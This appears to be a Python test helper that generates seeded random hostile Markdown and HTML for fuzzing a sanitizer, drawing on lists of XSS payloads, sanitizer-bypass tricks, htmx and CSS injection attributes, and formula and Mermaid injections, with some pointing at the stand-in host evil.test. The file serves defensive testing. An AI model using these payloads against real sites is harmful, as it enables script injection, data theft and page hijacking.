"""Random hostile texts: tags, attributes, schemes and encodings, badly nested, in every place that
Markdown has for text. The same seed gives the same texts."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator

from tests.hostile.addresses import ADDRESSES, FOREIGN, SCRIPT

Make = Callable[[random.Random], str]


def _words(text: str) -> list[str]:
    return text.split()


TAGS = _words(
    "a abbr acronym address animate animatetransform annotation-xml applet area article aside "
    "audio base basefont bdi bdo bgsound blink body br button canvas center command content "
    "data datalist desc details dialog dir div dl dt element embed fencedframe fieldset "
    "figure font footer foreignobject form frame frameset g geolocation h1 head header hr "
    "html hx-partial hx-on iframe image img input ins isindex kbd keygen label legend li link "
    "listing main malignmark map marquee math menu menuitem meta meter mglyph mi mn mo ms "
    "mtext multicol nav nobr noembed noframes noscript object ol optgroup option output p "
    "param path permission picture plaintext portal pre progress q rb rp ruby script search "
    "section select selectedcontent set shadow slot source spacer span strike style summary "
    "sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul use "
    "var video wbr xmp xss x-y"
)
HANDLERS = _words(
    "onerror onload onclick onmouseover onmouseenter onfocus onfocusin onblur onpointerenter "
    "onpointerover onpointerdown onanimationstart onanimationend ontransitionend ontoggle "
    "onbeforetoggle onwheel onscroll onscrollend oninput onchange oninvalid onsubmit onreset "
    "onselect onkeydown oncopy oncut onpaste ondrag ondrop onbegin onend onrepeat onloadstart "
    "oncanplay onplay ontimeupdate onfinish onstart onbounce onpageshow onhashchange "
    "onmessage onpopstate onresize onunload onafterprint onsecuritypolicyviolation "
    "oncontentvisibilityautostatechange"
)
LOADING = _words(
    "src href xlink:href action formaction data poster background srcset imagesrcset lowsrc "
    "dynsrc longdesc cite ping manifest codebase classid archive profile usemap icon content "
    "to values from attributionsrc"
)
# Attributes of htmx, in all spellings.
LIVE = [
    *(f"hx-{verb}=/reached" for verb in ("get", "post", "put", "patch", "delete", "query")),
    *(f"data-hx-{verb}=/reached" for verb in ("get", "post", "put", "patch", "delete")),
    *(f"hx-get='http://{FOREIGN}/hx'", f"hx-post=//{FOREIGN}/hx"),
    *(
        "hx-trigger=load",
        "hx-trigger='every 1ms'",
        "hx-trigger='load[hit()]'",
        "hx-trigger=revealed",
    ),
    *("data-hx-trigger=load", "hx-trigger=intersect", "hx-swap-oob=true"),
    *("hx-swap-oob='innerHTML:#composer'", "data-hx-swap-oob='outerHTML:body'"),
    *(
        "hx-swap-oob='beforeend:#live'",
        "hx-target=body",
        "hx-target:inherited=body",
        "hx-swap=delete",
    ),
    *("hx-vals='js:{a:hit()}'", "hx-vals=javascript:hit()", "hx-headers='js:{a:hit()}'"),
    *(
        "hx-on:load=hit()",
        "hx-on::load=hit()",
        "hx-on='load: hit()'",
        "hx-on:htmx:after:init=hit()",
    ),
    *("hx-on::after:process=hit()", "data-hx-on:load=hit()", "hx-on--load=hit()", "hx-live=hit()"),
    *("hx-boost=true", "hx-push-url=/owned", "hx-replace-url=/owned", "hx-select-oob=#composer"),
    *("hx-ext=ws", "hx-config='selfRequestsOnly:false'", "hx-include=body", "hx-confirm=hit"),
    *(
        f"hx-ws:connect=ws://{FOREIGN}/",
        f"hx-sse:connect=http://{FOREIGN}/",
        f"ws-connect=//{FOREIGN}",
    ),
    *(
        f"sse-connect=http://{FOREIGN}/",
        "sse-swap=x",
        "hx-preserve",
        "hx-history-elt",
        "hx-process",
    ),
    *(
        "hx-ignore=false",
        "data-hx-ignore=false",
        "hx-preload",
        "hx-optimistic=body",
        "hx-disable=false",
    ),
]
# Attributes that the page's own scripts look for.
OURS = [
    *("data-part=/reached", "data-panel", "data-copy-source=/reached", "data-file=x", "data-live"),
    *("data-run=x", "data-stream=/reached", "data-list=/reached", "data-changes=/reached"),
    *("data-replay-play", "data-quiet", "data-stop", "class=later", "class='codeblock diagram'"),
    *("class='math display'", "class='answer is-open'", "class=notices", "class='code-tool copy'"),
    *("id=composer", "id=text", "id=turns", "id=live", "id=room", "name=csrfmiddlewaretoken"),
    *("id=body", "name=cookie", "name=getElementById", "id=__proto__", "name=location", "id=htmx"),
    *("popovertarget=sidebar", "commandfor=confirm command=show-modal", "form=composer", "slot=x"),
    *("is=x-y", "part=x", "contenteditable", "autofocus", "tabindex=1", "accesskey=x", "inert"),
    *("draggable=true", "dir=rtl", "lang=x", "role=alert", "aria-live=assertive", "nonce=x"),
]
STYLES = [
    *(f"background:url(//{FOREIGN}/css)", f"background:image-set('http://{FOREIGN}/set' 1x)"),
    *(
        "position:fixed;inset:0;z-index:9999",
        "width:expression(hit())",
        "-moz-binding:url(//evil.test)",
    ),
    *("animation:x 1ms", f"list-style:url(http://{FOREIGN}/list)", "behavior:url(#x)"),
    *(f"cursor:url(http://{FOREIGN}/cursor),auto", f"content:url(http://{FOREIGN}/content)"),
    *(f"@import'//{FOREIGN}/import';", "}*{display:none}", "transition:all 1ms;color:red"),
]
SHEETS = [
    f"@import url(http://{FOREIGN}/sheet);",
    f"*{{background:url(http://{FOREIGN}/all)}}",
    f"input[value^=a]{{background:url(//{FOREIGN}/a)}}",
    f"@font-face{{font-family:x;src:url(http://{FOREIGN}/font)}}*{{font-family:x}}",
    "@keyframes x{from{color:red}}*{animation:x 1ms}",
    "#composer{display:none}",
]
# Known attacks on sanitizers, rewritten.
PIECES = [
    "<script>hit()</script>",
    "<script src=//evil.test/x.js></script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<svg><script>hit()</script></svg>",
    "<svg><script href=data:,hit() />",
    "<svg><style><img src=x onerror=hit()></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=hit()>'>",
    "<math><mi><mglyph></mi><style><img src onerror=hit()></style></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "<svg></p><style><a id='</style><img src=x onerror=hit()>'>",
    "<svg><desc><![CDATA[><img src=x onerror=hit()>]]></desc></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.hit()</script>'></foreignObject></svg>",
    "<svg><a xlink:href=javascript:hit()><rect width=99 height=99 /></a></svg>",
    "<svg><animate attributeName=href values=javascript:hit() /><a><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hit()>#x' /></svg>",
    "<svg><set attributeName=onmouseover to=hit()></svg>",
    "<svg><image href=http://evil.test/svg-image /></svg>",
    "<svg><feimage href=//evil.test/filter /></svg>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<template><script>hit()</script></template>",
    "<template shadowrootmode=open><script>hit()</script><slot></slot></template>",
    "<textarea><img title='</textarea><img src=x onerror=hit()>'>",
    "<title><a title='</title><img src=x onerror=hit()>'>",
    "<xmp><p title='</xmp><svg/onload=hit()>'>",
    "<noembed><img title='</noembed><img src onerror=hit()>'>",
    "<select><option><style></option></select><img src=x onerror=hit()></style>",
    "<table><td><img src=x onerror=hit()></table>",
    "<a><table><a href=javascript:hit()>x</a></table></a>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<iframe src=http://evil.test/frame></iframe>",
    "<object data=data:text/html,<script>parent.hit()</script>></object>",
    "<embed src=//evil.test/embed>",
    "<link rel=stylesheet href=http://evil.test/link>",
    "<link rel=prefetch href=http://evil.test/prefetch><link rel=preconnect href=http://evil.test>",
    "<link rel=dns-prefetch href=//evil.test><link rel=modulepreload href=//evil.test/module>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/refresh'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<meta name=htmx-config content='{\"selfRequestsOnly\":false}'>",
    "<base href=http://evil.test/>",
    "<base target=_self>",
    "<form action=http://evil.test/form><button autofocus>Sign in</button></form>",
    "<form id=composer><input name=attributes><input name=action></form>",
    "<button form=composer formaction=//evil.test>x</button>",
    "<input type=image src=http://evil.test/input onload=hit()>",
    "<video poster=//evil.test/poster><source src=//evil.test/video onerror=hit()></video>",
    "<audio src=x onerror=hit()>",
    "<picture><source srcset='http://evil.test/a 1x, //evil.test/b 2x'><img></picture>",
    "<img srcset=//evil.test/srcset src=x onerror=hit()>",
    "<img src=x:x onerror=hit()//",
    '<img src="x`"onerror="hit()"`>',
    "<img/src/onerror=hit()>",
    "<img\x0csrc=x\x0conerror=hit()>",
    "<IMG SRC=x ONERROR=&#104;&#105;&#116;&#40;&#41;>",
    "<\x00img src=x onerror=hit()>",
    "<img src=x onerror\x00=hit()>",
    "<body onload=hit()>",
    "<details open ontoggle=hit()>",
    "<marquee onstart=hit()>x</marquee>",
    "<input autofocus onfocus=hit()>",
    "<dialog open onclose=hit()><form method=dialog><button autofocus>",
    "<style>@import '//evil.test/style';</style>",
    "<style><!--</style><script>hit()//--></script>",
    "<!--><img src=x onerror=hit()>-->",
    "<!--!><svg/onload=hit()>",
    "<!-- --!><img src=x onerror=hit()>",
    "<![CDATA[<img src=x onerror=hit()>]]>",
    "<?xml version='1.0'?><img src=x onerror=hit()>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=hit()>'>]>&y;",
    "</p><img src=x onerror=hit()>",
    "</div></div></div></article></section></main><h1 id=composer>owned</h1>",
    "</hx-partial><hx-partial hx-target=body hx-swap=innerHTML>owned</hx-partial>",
    "</template><template hx type=partial hx-target=#composer>owned</template>",
    "<template hx type=partial hx-target=body hx-swap=innerHTML><script>hit()</script></template>",
    "<head><title>owned</title><script>hit()</script></head>",
    "<plaintext>",
    "<a href=x id=location><a id=location name=href href=javascript:hit()>",
    "<map name=m><area href=javascript:hit() shape=rect coords=0,0,99,99></map><img usemap=#m src=x>",
    "\u0085<img\u2028src=x onerror=hit()>",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;img src=x onerror=hit()&#62;",
    "&amp;lt;img src=x onerror=hit()&amp;gt;",
    "\\<img src=x onerror=hit()\\>",
    "%3Cimg src=x onerror=hit()%3E",
    "\ufeff<script>hit()</script>",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
]
FORMULAS = [
    r"\href{javascript:hit()}{x}",
    r"\url{javascript:hit()}",
    r"\includegraphics{http://evil.test/formula}",
    r"\htmlClass{later}{x}",
    r"\htmlId{composer}{x}",
    r"\htmlStyle{position:fixed}{x}",
    r"\htmlData{part=/reached}{x}",
    r"\def\a{\a\a}\a",
    r"\text{<img src=x onerror=hit()>}",
    r"\unicode{x3c}script",
    r"\color{red;background:url(//evil.test)}x",
    r"\rule{9999em}{9999em}",
    r"\class{later}{x}",
    r"</span></p><script>hit()</script>",
    r"\begin{array}{<img src=x>}x\end{array}",
]
DRAWINGS = [
    'graph TD\nA["<img src=http://evil.test/x onerror=hit()>"]-->B',
    'graph TD\nA-->B\nclick A href "javascript:hit()"',
    "graph TD\nA-->B\nclick A call hit()",
    "%%{init: {'securityLevel': 'loose', 'themeCSS': '*{background:url(http://evil.test/theme)}'}}%%\ngraph TD\nA-->B",
    "sequenceDiagram\nA->>B: <script>hit()</script>",
    "graph TD\nA-->B\nstyle A fill:url(http://evil.test/fill)",
]


# --- pieces --------------------------------------------------------------------------------------


def _case(rng: random.Random, text: str) -> str:
    return "".join(rng.choice((one.lower(), one.upper())) for one in text)


def _entities(rng: random.Random, text: str) -> str:
    forms: tuple[Callable[[int], str], ...] = (
        chr,
        chr,
        "&#{};".format,
        "&#x{:x};".format,
        "&#{}".format,
    )
    return "".join(rng.choice(forms)(ord(one)) for one in text)


def _value(rng: random.Random, text: str) -> str:
    text = _entities(rng, text) if rng.random() < 0.2 else text
    quote = rng.choice(("'", '"', "", "`", "'"))
    return f"{quote}{text}{quote if rng.random() < 0.95 else ''}"


def address(rng: random.Random) -> str:
    return rng.choice((rng.choice(ADDRESSES), f"http://{FOREIGN}/{rng.randrange(999)}"))


def attribute(rng: random.Random) -> str:
    kind = rng.randrange(6)
    if kind == 0:
        return f"{_case(rng, rng.choice(HANDLERS))}={_value(rng, SCRIPT)}"
    if kind == 1:
        return f"{rng.choice(LOADING)}={_value(rng, address(rng))}"
    if kind == 2:
        return rng.choice(LIVE)
    if kind == 3:
        return rng.choice(OURS)
    if kind == 4:
        return f"style={_value(rng, rng.choice(STYLES))}"
    return f"srcdoc={_value(rng, '<script>parent.hit()</script>')}"


def tag(rng: random.Random) -> str:
    name = rng.choice(TAGS)
    name = _case(rng, name) if rng.random() < 0.2 else name
    space = rng.choice((" ", " ", " ", "/", "\t", "\x0c", " \n"))
    attributes = "".join(space + attribute(rng) for _ in range(rng.randrange(4)))
    end = rng.choice((">", ">", ">", ">", "/>", " >", "", "<", ">>"))
    return f"<{name}{attributes}{end}"


def closing(rng: random.Random) -> str:
    return f"</{rng.choice(TAGS)}>"


def sheet(rng: random.Random) -> str:
    return f"<style>{rng.choice(SHEETS)}</style>"


def markup(rng: random.Random) -> str:
    """HTML of one to four random pieces."""
    parts: tuple[Make, ...] = (tag, tag, closing, sheet, lambda rng: rng.choice(PIECES))
    return "".join(rng.choice(parts)(rng) for _ in range(rng.randrange(1, 5)))


# --- the places of Markdown -----------------------------------------------------------------------


def _one_line(text: str) -> str:
    return " ".join(text.split("\n"))


CONTEXTS: tuple[Callable[[random.Random, str, str], str], ...] = (
    lambda rng, x, a: x,
    lambda rng, x, a: f"words {x} words",
    lambda rng, x, a: f"\n\n{x}\n\nafter",
    lambda rng, x, a: f"<div>\n\n{x}\n\n</div>",
    lambda rng, x, a: f"[{x}]({a})",
    lambda rng, x, a: f"[x](<{a}> '{x}')",
    lambda rng, x, a: f'[x]({a} "{x}")',
    lambda rng, x, a: f"[x](https://evil.test/{_one_line(x)})",
    lambda rng, x, a: f"[[x]({a})]({a})",
    lambda rng, x, a: f"[![x]({a})]({a})",
    lambda rng, x, a: f"![{x}]({a} '{x}')",
    lambda rng, x, a: f"![x](http://evil.test/picture?{_one_line(x)})",
    lambda rng, x, a: f"![x][r]\n\n[r]: {a} '{x}'",
    lambda rng, x, a: f"[{x}]\n\n[{x}]: {a}",
    lambda rng, x, a: f"[x][r]\n\n[r]: <{a}>\n'{x}'",
    lambda rng, x, a: f"<{a}>",
    lambda rng, x, a: f"<{a}{x}>",
    lambda rng, x, a: f"{a} {x}",
    lambda rng, x, a: f"| {_one_line(x)} | [a]({a}) |\n|:-:|--:|\n| {x} | `{x}` |",
    lambda rng, x, a: f"- {x}\n  - [x] {x}\n\n    {x}",
    lambda rng, x, a: f"1000000000) {x}\n2) {x}",
    lambda rng, x, a: f"> {x}\n{x}\n> > [q]({a})",
    lambda rng, x, a: f"# {x} #\n{x}\n===",
    lambda rng, x, a: f"**{x}** _{x}_ ~~{x}~~",
    lambda rng, x, a: f"```{x}\n{x}\n```",
    lambda rng, x, a: f"~~~ {_one_line(x)} {a}\n{x}",
    lambda rng, x, a: f"```html\n{x}\n```\n{x}",
    lambda rng, x, a: f"    {x}",
    lambda rng, x, a: f"`{x}` ``{x}``",
    lambda rng, x, a: f"${rng.choice(FORMULAS)}{_one_line(x)}$",
    lambda rng, x, a: f"$$\n{rng.choice(FORMULAS)}\n{x}\n$$",
    lambda rng, x, a: f"\\({x}^2\\) \\[{rng.choice(FORMULAS)}\\]",
    lambda rng, x, a: f"```mermaid\n{rng.choice(DRAWINGS)}\n{x}\n```",
    lambda rng, x, a: f"Text[^1] {x}\n\n[^1]: {x} {a}",
    lambda rng, x, a: f"Term\n: {x}\n\n*[HTML]: {x}",
    lambda rng, x, a: f"{x}  \n{x}\\\n{x}",
    lambda rng, x, a: f"# x {{#composer .card onclick=hit()}}\n\n:::{{.later}}\n{x}\n:::",
    lambda rng, x, a: "".join(f"\\{one}" if rng.random() < 0.3 else one for one in x),
    lambda rng, x, a: _entities(rng, x),
    lambda rng, x, a: f"---\ntitle: {x}\n---\n{x}",
)


def text(rng: random.Random) -> str:
    made = rng.choice(CONTEXTS)(rng, markup(rng), address(rng))
    if rng.random() < 0.2:
        made = rng.choice(CONTEXTS)(rng, made, address(rng))
    if rng.random() < 0.1:
        made = made[: rng.randrange(len(made) + 1)]
    return made


def texts(count: int, *, seed: int) -> Iterator[str]:
    rng = random.Random(seed)
    for _ in range(count):
        yield text(rng)
